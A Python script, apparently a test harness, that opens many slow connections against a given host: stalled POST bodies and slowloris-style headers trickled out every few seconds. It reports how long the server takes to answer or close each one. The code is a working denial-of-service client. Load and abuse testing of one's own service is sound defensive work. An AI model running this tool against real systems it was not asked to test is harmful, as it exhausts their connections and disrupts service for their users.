"""Slow clients from one address: stalled request bodies and slowloris headers, held open.

    python slow_clients.py HOST PORT --stalled 64 --slowloris 64 --body-bytes 65536 \
        --interval 3 --give-up 30

- A stalled body sends the headers of `POST /items` (with the write key) declaring
  --body-bytes of JSON, the first bytes of that body, and then nothing.
- A slowloris sends `GET /items?limit=1 HTTP/1.1` and the key, then one more header line every
  --interval seconds, never the blank line that would end its headers.

Every connection then waits for the server to answer or to close it, for at most --give-up
seconds from its opening. Two JSON lines on stdout: {"ready": ...} once every connection is open
and has sent its first bytes, and at the end {"address": ..., "connections": [[kind, status,
seconds, end], ...]}: the status of any answer (null: none), the seconds from opening to the
server's close (null: still open at give-up) and how it ended ("eof", "reset", "open", or why it
never opened).
"""

from __future__ import annotations

import asyncio
import time

from abuse_http import answer_in, arguments, authorization, report, wait_for_close


async def _open(host: str, port: int, first: bytes, sent: asyncio.Future):
    """A connection that has sent `first`; marks `sent` either way."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
        opened = time.monotonic()
        writer.write(first)
        await writer.drain()
        return reader, writer, opened
    finally:
        sent.set_result(None)


def _status(received: bytes) -> int | None:
    answer = answer_in(received)
    return answer and answer.status


async def stalled(args, sent: asyncio.Future) -> list:
    head = (f"POST /items HTTP/1.1\r\nHost: {args.host}\r\n{authorization()}"
            "Content-Type: application/json\r\n"
            f"Content-Length: {args.body_bytes}\r\n\r\n").encode()
    try:
        reader, writer, opened = await _open(args.host, args.port, head + b'{"name": "stalled', sent)
    except OSError as e:
        return ["stalled", None, None, f"connect: {type(e).__name__}"]
    received, end = await wait_for_close(reader, opened + args.give_up)
    writer.close()
    return ["stalled", _status(received), None if end == "open" else round(time.monotonic() - opened, 2), end]


async def slowloris(args, sent: asyncio.Future) -> list:
    try:
        first = f"GET /items?limit=1 HTTP/1.1\r\n{authorization()}".encode()
        reader, writer, opened = await _open(args.host, args.port, first, sent)
    except OSError as e:
        return ["slowloris", None, None, f"connect: {type(e).__name__}"]
    received, end, line = b"", "open", 0
    while end == "open" and time.monotonic() < opened + args.give_up:
        more, end = await wait_for_close(reader, min(time.monotonic() + args.interval, opened + args.give_up))
        received += more
        if end == "open":
            line += 1
            try:
                writer.write(f"X-Slow-{line}: {'s' * 20}\r\n".encode())
                await writer.drain()
            except (ConnectionResetError, BrokenPipeError):
                end = "reset"
    writer.close()
    return ["slowloris", _status(received), None if end == "open" else round(time.monotonic() - opened, 2), end]


async def main(args) -> None:
    # The address the edge sees: this container's own on the network.
    _, writer = await asyncio.open_connection(args.host, args.port)
    address = writer.get_extra_info("sockname")[0]
    writer.close()
    loop = asyncio.get_running_loop()
    sent = [loop.create_future() for _ in range(args.stalled + args.slowloris)]
    tasks = [asyncio.create_task(stalled(args, s)) for s in sent[:args.stalled]]
    tasks += [asyncio.create_task(slowloris(args, s)) for s in sent[args.stalled:]]
    await asyncio.gather(*sent)
    report(ready=len(sent))
    connections = await asyncio.gather(*tasks)
    report(address=address, connections=connections)


if __name__ == "__main__":
    p = arguments(__doc__)
    p.add_argument("--stalled", type=int, default=64)
    p.add_argument("--slowloris", type=int, default=64)
    p.add_argument("--body-bytes", type=int, default=65536)
    p.add_argument("--interval", type=float, default=3)
    p.add_argument("--give-up", type=float, default=30)
    asyncio.run(main(p.parse_args()))
